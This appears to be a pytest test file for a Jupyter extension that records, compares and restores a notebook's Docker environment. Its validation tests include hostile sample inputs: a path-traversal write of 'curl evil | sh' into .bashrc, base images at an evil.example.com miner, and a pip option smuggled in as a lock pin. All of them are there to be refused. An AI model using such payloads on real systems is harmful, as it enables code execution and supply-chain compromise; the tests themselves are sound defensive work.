"""Notebooks that carry their environment: recorded on save, compared, recreated.

Through a real Jupyter server (pytest-jupyter) and the real engine: the contents API saves, the
REST API compares and restores, the command line restores; a loopback registry serves pulls.
"""

from __future__ import annotations

import copy
import json
import os
import re
import subprocess
import uuid
from pathlib import Path
from typing import Any

import nbformat
import pytest

from jupyter_docker_env.engine import Engine
from jupyter_docker_env.environments.images import BuildSettings
from jupyter_docker_env.environments.spec import SPEC_FILE, SpecError
from jupyter_docker_env.kernels import kernelspecs
from jupyter_docker_env.labels import LOCK as LABEL_LOCK
from jupyter_docker_env.labels import SPEC_FILES as LABEL_SPEC_FILES
from jupyter_docker_env.labels import SPEC_HASH as LABEL_SPEC_HASH
from jupyter_docker_env.models import BaseImage, Lock
from jupyter_docker_env.notebooks.compare import differences
from jupyter_docker_env.notebooks.record import NotebookEnv, RecordError, from_notebook
from jupyter_docker_env.notebooks.restore import check
from jupyter_docker_env.notebooks.saving import pre_save_hook

from .conftest import CA_BUNDLE, JDE_PREFIX
from .test_api import call, wait_operation
from .test_cli import CLI, Cli

docker = pytest.mark.docker
RUN = uuid.uuid4().hex[:8]  # each run builds anew; the layer cache serves what came before
USER_HOOK_MARK = "saved-by-the-user-hook"


def user_pre_save_hook(model: dict[str, Any], **_: Any) -> None:
    """A hook the user configured (c.ContentsManager.pre_save_hook): it must keep running."""
    if model.get("type") == "notebook":
        model["content"]["metadata"][USER_HOOK_MARK] = True


@pytest.fixture
def jp_server_config(jp_root_dir: Path, request: pytest.FixtureRequest) -> dict[str, Any]:
    docker_env: dict[str, Any] = {"image_prefix": JDE_PREFIX, "ca_bundle": CA_BUNDLE or ""}
    marker = request.node.get_closest_marker("docker_env_config")
    if marker:
        docker_env.update(marker.args[0])
    if "jde_open_registry" in request.fixturenames:  # the test shares through a registry
        docker_env["registry"] = request.getfixturevalue("jde_open_registry")
    return {
        "ServerApp": {"jpserver_extensions": {"jupyter_docker_env": True}},
        "ContentsManager": {"pre_save_hook": f"{__name__}.user_pre_save_hook"},
        "DockerEnvApp": docker_env,
    }


def notebook_on(kernel: str, **metadata: Any) -> dict[str, Any]:
    nb = nbformat.v4.new_notebook(
        metadata={
            "kernelspec": {"name": kernel, "display_name": kernel, "language": "python"},
            **metadata,
        }
    )
    nb.cells.append(nbformat.v4.new_code_cell("import six; six.__version__"))
    return dict(nb)


async def save(jp_fetch: Any, path: str, notebook: dict[str, Any]) -> None:
    model = {"type": "notebook", "format": "json", "content": notebook}
    await jp_fetch("api", "contents", path, method="PUT", body=json.dumps(model))


def on_disk(root: Path, path: str) -> dict[str, Any]:
    return json.loads((root / path).read_text())  # type: ignore[no-any-return]


async def built(jp_fetch: Any, name: str, base: str) -> dict[str, Any]:
    """A built environment of its own (its spec names the run, so it is built anew)."""
    spec = {"name": name, "base": base, "pip": ["six==1.16.0"], "env": {"RUN": RUN}}
    await call(jp_fetch, "envs", "POST", spec, expect=201)
    op = await call(jp_fetch, f"envs/{name}/builds", "POST", {}, expect=202)
    done = await wait_operation(jp_fetch, op["id"])
    assert done["state"] == "succeeded", done["log"][-20:]
    return await call(jp_fetch, f"envs/{name}")  # type: ignore[no-any-return]


def command(cli: Cli, cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """`jupyter docker-env ARGS` in ``cwd``, as its user runs it."""
    return subprocess.run(
        [CLI, *args], cwd=cwd, env=cli.env, capture_output=True, text=True, timeout=600, check=False
    )


def forget(engine: Engine, image_id: str) -> None:
    """Remove an image with every tag, as on a machine that never had it."""
    engine.remove_image(image_id, force=True)
    assert engine.inspect_image(image_id) is None


# -- records and their checks, without an engine ------------------------------------------------
LOCK = Lock(
    pip=("ipykernel==6.29.5", "six==1.16.0"),
    pip_base=("pip==23.0.1",),
    apt=("tini=0.19.0-1",),
    base=BaseImage("127.0.0.1:5000/team/python:3.11", "sha256:" + "b" * 64, ""),
)
RECORD = NotebookEnv(
    env="demo",
    kind="spec",
    spec_hash="a" * 64,
    image_id="sha256:" + "c" * 64,
    image_tag="docker-env/demo:" + "a" * 16,
    files={SPEC_FILE: 'base = "127.0.0.1:5000/team/python:3.11"\npip = ["six==1.16.0"]\n'},
    lock=LOCK,
)


def test_a_record_round_trips_and_a_damaged_one_is_refused_where_it_is_damaged() -> None:
    assert NotebookEnv.from_json(RECORD.to_json()) == RECORD
    data = RECORD.to_json()
    data["lock"]["pip"][1] = 7
    with pytest.raises(RecordError) as err:
        NotebookEnv.from_json(data)
    assert err.value.field == "metadata.docker_env.lock.pip[1]"
    escaping = {**RECORD.to_json(), "files": {"../../.bashrc": "curl evil | sh"}}
    with pytest.raises(RecordError, match="files"):
        NotebookEnv.from_json(escaping)
    newer = {**RECORD.to_json(), "version": 2, "something": "new"}
    with pytest.raises(RecordError, match="newer jupyter-docker-env"):
        NotebookEnv.from_json(newer)
    assert from_notebook(notebook_on("python3")) is None


class Records:
    """The environment service as the hook sees it: records in memory."""

    def __init__(self, **records: NotebookEnv) -> None:
        self.records = records

    def notebook_record(self, name: str) -> NotebookEnv | None:
        return self.records.get(name)


def test_the_save_hook_records_only_notebooks_on_an_environment_with_a_record() -> None:
    hook = pre_save_hook(Records(demo=RECORD))  # type: ignore[arg-type]
    on_env = {"type": "notebook", "content": notebook_on("docker-env-demo")}
    plain = {"type": "notebook", "content": notebook_on("python3")}
    carried = RECORD.to_json() | {"env": "elsewhere"}
    unknown = {
        "type": "notebook",
        "content": notebook_on("docker-env-elsewhere", docker_env=carried),
    }
    text = {"type": "file", "content": "docker-env-demo"}
    before = copy.deepcopy([plain, unknown, text])
    for model in (on_env, plain, unknown, text):
        hook(model=model, path="x.ipynb", contents_manager=None)
    assert on_env["content"]["metadata"]["docker_env"] == RECORD.to_json()
    # plain notebooks, other files, and a record whose environment is not here stay as they were
    assert [plain, unknown, text] == before


def test_differences_name_the_packages_and_versions_in_words() -> None:
    here = NotebookEnv.from_json(
        RECORD.to_json()
        | {
            "spec_hash": "d" * 64,
            "lock": LOCK.to_json() | {"pip": ["ipykernel==6.29.5", "six==1.17.0", "tqdm==4.67.1"]},
        }
    )
    found = differences(RECORD, here, None, None, None)
    assert [d.words() for d in found] == [
        "six: 1.16.0 in the notebook's environment, 1.17.0 here",
        "tqdm 4.67.1 only here",
    ]


def test_recreating_checks_the_record_like_any_spec_and_more(tmp_path: Path) -> None:
    settings = BuildSettings(
        default_base="python:3.12-slim", allowed_bases=("127.0.0.1:5000/team/*",)
    )
    checked = check(RECORD, tmp_path / "ok", settings)
    assert checked.spec.name == "ok"
    assert checked.lock == LOCK
    # a base outside the allow-list
    elsewhere = {SPEC_FILE: 'base = "evil.example.com/miner:latest"\n'}
    with pytest.raises(SpecError, match="not an allowed base image") as err:
        check(
            NotebookEnv.from_json(RECORD.to_json() | {"files": elsewhere}), tmp_path / "b", settings
        )
    assert err.value.field == "base"
    # a Dockerfile whose FROM is outside it
    dockerfile = {"Dockerfile": "FROM evil.example.com/miner\nRUN true\n"}
    with pytest.raises(SpecError, match=re.escape("FROM evil.example.com/miner: not an allowed")):
        check(
            NotebookEnv.from_json(RECORD.to_json() | {"kind": "dockerfile", "files": dockerfile}),
            tmp_path / "d",
            settings,
        )
    # a lock entry that pip would read as an option
    options = LOCK.to_json() | {"pip": ["--extra-index-url=http://evil.example.com/simple"]}
    with pytest.raises(RecordError, match="not an exact pin") as err:
        check(NotebookEnv.from_json(RECORD.to_json() | {"lock": options}), tmp_path / "o", settings)
    assert err.value.field == "metadata.docker_env.lock.pip[0]"
    # a base digest of another repository is never pulled (nor tagged as the spec's base)
    swapped = LOCK.to_json()
    swapped["base"]["digest"] = "evil.example.com/miner@sha256:" + "e" * 64
    found = check(
        NotebookEnv.from_json(RECORD.to_json() | {"lock": swapped}), tmp_path / "s", settings
    )
    assert found.lock is not None
    assert found.lock.base is not None
    assert found.lock.base.digest == ""


# -- through a real server and engine ----------------------------------------------------------
@docker
async def test_saving_records_the_environment_and_restore_pulls_it_back_by_digest(
    jp_fetch: Any,
    jp_root_dir: Path,
    jde_base_image: str,
    jde_open_registry: str,
    jde_engine: Engine,
) -> None:
    # Given a built environment
    env = await built(jp_fetch, "nbpull", jde_base_image)
    # When a notebook on its kernel is saved through the contents API
    (jp_root_dir / "work").mkdir()
    await save(jp_fetch, "work/analysis.ipynb", notebook_on("docker-env-nbpull"))
    saved = on_disk(jp_root_dir, "work/analysis.ipynb")
    # Then it records the environment: what the kernel's image is, by its labels
    record = saved["metadata"]["docker_env"]
    image = jde_engine.inspect_image(f"{JDE_PREFIX}/nbpull:latest")
    assert image is not None
    labels = image["Config"]["Labels"]
    assert record["version"] == 1
    assert record["env"] == "nbpull"
    assert record["image"]["id"] == image["Id"] == env["image"]["id"]
    assert record["spec_hash"] == labels[LABEL_SPEC_HASH] == env["spec_hash"]
    assert record["lock"] == json.loads(labels[LABEL_LOCK]) == env["lock"]
    assert record["files"] == json.loads(labels[LABEL_SPEC_FILES])
    assert "six==1.16.0" in record["files"][SPEC_FILE]
    assert record["registry"] is None  # not pushed yet
    # and the hook the user configured ran too
    assert saved["metadata"][USER_HOOK_MARK] is True
    # and a plain notebook is saved as sent
    await save(jp_fetch, "plain.ipynb", notebook_on("python3"))
    assert "docker_env" not in on_disk(jp_root_dir, "plain.ipynb")["metadata"]
    compared = await call(jp_fetch, "notebooks/env", params={"path": "work/analysis.ipynb"})
    assert compared["state"] == "same"

    # When the environment is pushed, a save records where
    op = await call(jp_fetch, "envs/nbpull/push", "POST", expect=202)
    pushed = await wait_operation(jp_fetch, op["id"])
    assert pushed["state"] == "succeeded", pushed["log"][-10:]
    await save(jp_fetch, "work/analysis.ipynb", saved)
    record = on_disk(jp_root_dir, "work/analysis.ipynb")["metadata"]["docker_env"]
    assert record["registry"]["image"] == f"{jde_open_registry}/nbpull:{record['spec_hash'][:16]}"
    assert jde_engine.registry_digest(record["registry"]["image"]) == record["registry"]["digest"]

    # Given the environment folder and its images are gone
    await call(jp_fetch, "envs/nbpull", "DELETE", expect=204)
    forget(jde_engine, record["image"]["id"])
    compared = await call(jp_fetch, "notebooks/env", params={"path": "work/analysis.ipynb"})
    assert compared["state"] == "missing"
    assert "nbpull" in compared["message"]
    plan = compared["restore"]
    assert plan["allowed"] is True
    assert plan["name"] == "nbpull"
    assert plan["base"] == jde_base_image
    assert "six==1.16.0" in plan["pip"]
    assert plan["source"] == f"{jde_open_registry}/nbpull@{record['registry']['digest']}"
    # When it is restored from the notebook
    op = await call(
        jp_fetch, "notebooks/env/restore", "POST", {"path": "work/analysis.ipynb"}, expect=202
    )
    assert op["kind"] == "restore"
    done = await wait_operation(jp_fetch, op["id"])
    assert done["state"] == "succeeded", done["log"][-20:]
    # Then it was pulled by digest, and is the recorded environment: same hash, same lock
    assert done["pulled"] is True
    assert any(line == f"Pulling {plan['source']}" for line in done["log"])
    restored = await call(jp_fetch, "envs/nbpull")
    assert restored["state"] == "built"
    assert restored["spec_hash"] == record["spec_hash"]
    assert restored["lock"] == record["lock"]
    assert restored["image"]["id"] == record["image"]["id"]
    assert "six==1.16.0" in (jp_root_dir / "environments" / "nbpull" / SPEC_FILE).read_text()
    compared = await call(jp_fetch, "notebooks/env", params={"path": "work/analysis.ipynb"})
    assert compared["state"] == "same"
    specs = json.loads((await jp_fetch("api", "kernelspecs")).body)["kernelspecs"]
    assert "docker-env-nbpull" in specs
    await call(jp_fetch, "envs/nbpull", "DELETE", expect=204)


@docker
async def test_restore_from_the_command_line_builds_the_recorded_versions(
    jp_fetch: Any, jp_root_dir: Path, jde_base_image: str, jde_engine: Engine, jde_tmp: Path
) -> None:
    # Given a notebook saved on an environment that was never pushed
    await built(jp_fetch, "nbcli", jde_base_image)
    await save(jp_fetch, "nb.ipynb", notebook_on("docker-env-nbcli"))
    record = on_disk(jp_root_dir, "nb.ipynb")["metadata"]["docker_env"]
    # and the environment folder and its images are gone
    await call(jp_fetch, "envs/nbcli", "DELETE", expect=204)
    forget(jde_engine, record["image"]["id"])
    cli = Cli(jde_tmp / "home", f'c.DockerEnvApp.default_base = "{jde_base_image}"\n')

    def restore(*args: str) -> subprocess.CompletedProcess[str]:
        return command(cli, jp_root_dir, "restore", "nb.ipynb", *args)

    # When restore runs without a terminal to confirm on: nothing happens, it says why
    refused = restore("--json")
    assert refused.returncode != 0
    assert "confirm with --yes" in refused.stderr
    assert "base image: " + jde_base_image in refused.stderr  # shown before asking
    assert "six==1.16.0" in refused.stderr
    assert not (jp_root_dir / "environments" / "nbcli").exists()
    # When it is confirmed
    out = restore("--yes", "--json")
    assert out.returncode == 0, out.stderr[-3000:]
    result = json.loads(out.stdout)["restored"]
    # Then it was built with the recorded versions: the same spec hash, the same lock
    assert result["built"] is True
    assert "Building with the recorded exact versions (lock)" in out.stderr
    assert result["spec_hash"] == record["spec_hash"]
    assert result["lock"] == record["lock"]
    assert result["kernel_name"] == "docker-env-nbcli"
    assert Path(result["folder"]) == jp_root_dir / "environments" / "nbcli"
    restored = await call(jp_fetch, "envs/nbcli")
    assert restored["state"] == "built"
    assert restored["spec_hash"] == record["spec_hash"]

    # Given only the image is gone again, the folder kept (and edited by hand meanwhile)
    folder = jp_root_dir / "environments" / "nbcli"
    (folder / SPEC_FILE).write_text("# kept as it is\n" + (folder / SPEC_FILE).read_text())
    forget(jde_engine, restored["image"]["id"])
    # When the notebook's environment is recreated from the notebook
    op = await call(jp_fetch, "notebooks/env/restore", "POST", {"path": "nb.ipynb"}, expect=202)
    # Then that folder is completed, not copied: its files stay as they are
    assert op["env"] == "nbcli"
    done = await wait_operation(jp_fetch, op["id"])
    assert done["state"] == "succeeded", done["log"][-20:]
    assert (folder / SPEC_FILE).read_text().startswith("# kept as it is")
    assert (await call(jp_fetch, "envs/nbcli"))["lock"] == record["lock"]
    await call(jp_fetch, "envs/nbcli", "DELETE", expect=204)


@docker
async def test_run_without_a_folder_runs_a_notebook_on_its_own_environment(
    jp_fetch: Any, jp_root_dir: Path, jde_base_image: str, jde_engine: Engine, jde_tmp: Path
) -> None:
    # Given a notebook saved on a built environment
    await built(jp_fetch, "nbrun", jde_base_image)
    await save(jp_fetch, "nb.ipynb", notebook_on("docker-env-nbrun"))
    record = on_disk(jp_root_dir, "nb.ipynb")["metadata"]["docker_env"]
    if os.geteuid() == 0:
        os.chown(jp_root_dir, 1000, 1000)  # runs write as the workspace's owner
    cli = Cli(jde_tmp / "home", f'c.DockerEnvApp.default_base = "{jde_base_image}"\n')

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return command(cli, jp_root_dir, "run", *args)

    # When it is run without naming a folder
    out = run("nb.ipynb", "--json")
    # Then it ran on the environment it was saved on, and its cell ran there
    assert out.returncode == 0, out.stderr[-3000:]
    done = json.loads(out.stdout)
    assert (done["env"], done["state"]) == ("nbrun", "succeeded")
    executed = on_disk(jp_root_dir, done["output"])
    assert "".join(executed["cells"][0]["outputs"][0]["data"]["text/plain"]) == "'1.16.0'"

    # Given the environment and its image are gone
    await call(jp_fetch, "envs/nbrun", "DELETE", expect=204)
    forget(jde_engine, record["image"]["id"])
    # When it is run again, it refuses, naming restore and the way to pick a folder
    out = run("nb.ipynb")
    assert out.returncode != 0
    assert "jupyter docker-env restore nb.ipynb" in out.stderr
    assert "jupyter docker-env run DIR nb.ipynb" in out.stderr
    # and a plain notebook is told to name its folder
    (jp_root_dir / "plain.ipynb").write_text(json.dumps(notebook_on("python3")))
    out = run("plain.ipynb")
    assert out.returncode != 0
    assert "carries no environment" in out.stderr
    assert "jupyter docker-env run DIR plain.ipynb" in out.stderr


@docker
async def test_a_changed_environment_shows_which_packages_differ(
    jp_fetch: Any, jp_root_dir: Path, jde_base_image: str
) -> None:
    # Given a notebook saved on an environment
    await built(jp_fetch, "nbdiff", jde_base_image)
    await save(jp_fetch, "nb.ipynb", notebook_on("docker-env-nbdiff"))
    nb = on_disk(jp_root_dir, "nb.ipynb")
    # that a colleague recorded with another spec: six 1.15.0 and tqdm
    theirs = nb["metadata"]["docker_env"]
    theirs["spec_hash"] = "f" * 64
    theirs["files"][SPEC_FILE] = theirs["files"][SPEC_FILE].replace("1.16.0", "1.15.0")
    theirs["lock"]["pip"] = [
        *[p for p in theirs["lock"]["pip"] if not p.startswith("six==")],
        "six==1.15.0",
        "tqdm==4.67.1",
    ]
    (jp_root_dir / "theirs.ipynb").write_text(json.dumps(nb))
    # When it is compared with the environment here
    compared = await call(jp_fetch, "notebooks/env", params={"path": "theirs.ipynb"})
    # Then the difference is said in words, package by package
    assert compared["state"] == "different"
    six = {
        "section": "python",
        "name": "six",
        "notebook": "1.15.0",
        "here": "1.16.0",
        "words": "six: 1.15.0 in the notebook's environment, 1.16.0 here",
    }
    assert six in compared["differences"]
    assert "six: 1.15.0 in the notebook's environment, 1.16.0 here" in compared["message"]
    assert "tqdm 4.67.1 only in the notebook's environment" in compared["message"]
    # and recreating it would make a new environment beside this one
    assert compared["restore"]["name"] == "nbdiff-ffffffff"
    await call(jp_fetch, "envs/nbdiff", "DELETE", expect=204)


@docker
@pytest.mark.docker_env_config({"allowed_bases": ["127.0.0.1:*/docker-env/*"]})
async def test_a_notebook_on_a_forbidden_base_is_refused_with_a_clear_message(
    jp_fetch: Any, jp_root_dir: Path
) -> None:
    # Given a notebook whose recorded environment is built on a base outside the allow-list
    record = RECORD.to_json() | {
        "env": "miner",
        "files": {SPEC_FILE: 'base = "evil.example.com/miner:latest"\npip = ["six"]\n'},
        "lock": LOCK.to_json()
        | {"base": {"image": "evil.example.com/miner:latest", "id": "", "digest": ""}},
    }
    nb = notebook_on("docker-env-miner", docker_env=record)
    (jp_root_dir / "sent.ipynb").write_text(json.dumps(nb))
    # When it is compared, the plan shows the base and says no
    compared = await call(jp_fetch, "notebooks/env", params={"path": "sent.ipynb"})
    assert compared["state"] == "missing"
    plan = compared["restore"]
    assert plan["allowed"] is False
    assert plan["base"] == "evil.example.com/miner:latest"
    assert plan["field"] == "base"
    assert "not an allowed base image; pick one of: 127.0.0.1:*/docker-env/*" in plan["refusal"]
    # and restoring it is refused the same way, with nothing written
    err = await call(jp_fetch, "notebooks/env/restore", "POST", {"path": "sent.ipynb"}, expect=400)
    assert err["field"] == "base"
    assert "evil.example.com/miner:latest" in err["message"]
    assert not any((jp_root_dir / "environments").glob("*"))
    # and a notebook without a record, or a path that is no notebook, are said as such
    (jp_root_dir / "plain.ipynb").write_text(json.dumps(notebook_on("python3")))
    compared = await call(jp_fetch, "notebooks/env", params={"path": "plain.ipynb"})
    assert compared["state"] == "none"
    await call(jp_fetch, "notebooks/env", params={"path": "nowhere.ipynb"}, expect=404)
    err = await call(jp_fetch, "notebooks/env", params={"path": ""}, expect=400)
    assert err["field"] == "path"


@docker
def test_nbclient_on_an_environment_whose_image_is_gone_names_restore(
    jde_engine: Engine, jde_tmp: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from nbclient import NotebookClient

    # Given a kernel spec on disk (as `kernelspec install` writes it) whose image is gone
    kernels = jde_tmp / "share" / "kernels"
    gone = f"{JDE_PREFIX}/gone-{RUN}:latest"
    assert jde_engine.inspect_image(gone) is None
    spec = kernelspecs.kernel_json(f"gone-{RUN}", gone, gpu=False, extra_config={"user": "1000"})
    kernelspecs.write(kernels, spec)
    monkeypatch.setenv("JUPYTER_PATH", str(kernels.parent))
    nb = nbformat.from_dict(notebook_on(f"docker-env-gone-{RUN}"))
    # When nbclient (as papermill does) runs a notebook on it
    client = NotebookClient(nb, kernel_name=f"docker-env-gone-{RUN}", resources={})
    # Then it fails with words that name the way back
    with pytest.raises(RuntimeError, match=re.escape("jupyter docker-env restore NOTEBOOK.ipynb")):
        client.execute(cwd=str(jde_tmp))
